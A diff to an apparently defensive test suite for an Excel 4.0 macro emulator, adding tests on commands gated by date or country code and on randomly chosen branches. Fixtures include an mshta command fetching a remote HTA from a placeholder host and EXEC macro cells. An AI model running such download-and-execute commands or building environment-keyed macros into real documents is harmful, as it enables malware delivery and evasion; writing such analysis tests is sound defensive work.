@@ -514,8 +514,10 @@ def test_files_fetched_by_other_programs() -> None:
     assert "calc" in facts(items, "effect.run")
 
 
-@pytest.mark.parametrize(("key", "shift"), [("DAY(NOW())", 19), ("DAY(NOW())", 22), ("MONTH(TODAY())", 3)])
-def test_commands_locked_to_a_date(key: str, shift: int) -> None:
+@pytest.mark.parametrize(
+    ("key", "shift"), [("DAY(NOW())", 19), ("DAY(NOW())", 22), ("MONTH(TODAY())", 3), ("INDEX(GET.WORKSPACE(37),1)", 39)]
+)
+def test_commands_locked_to_a_date_or_a_country(key: str, shift: int) -> None:
     """With a key that is nearly right, a command is printable as well; it is none nevertheless."""
     command = "mshta http://a.example.test/x.hta"
     cells: Cells = {
@@ -543,3 +545,13 @@ def test_commands_locked_to_a_date(key: str, shift: int) -> None:
 )
 def test_what_comes_behind_work_without_end(busy: Cells) -> None:
     assert "calc" in facts(run(book(busy | {"A9": '=EXEC("calc")', "A10": "=HALT()"})), "effect.run")
+
+
+def test_the_first_value_of_an_array_decides_what_is_done() -> None:
+    cells = {"A1": "=IF(GET.WORKSPACE(37)=81,GOTO(A3),CLOSE(FALSE))", "A2": '=EXEC("no")', "A3": '=EXEC("yes")', "A4": "=HALT()"}
+    assert facts(run(book(cells)), "effect.run") == ["yes"]
+
+
+def test_a_fraction_by_chance_reaches_every_part() -> None:
+    cells = {"A1": "=INDEX(C1:C3,INT(RAND()*3)+1)", "A2": "=EXEC(A1)", "A3": "=HALT()", "C1": "calc 1", "C2": "calc 2", "C3": "calc 3"}
+    assert sorted(facts(run(book(cells)), "effect.run")) == ["calc 1", "calc 2", "calc 3"]
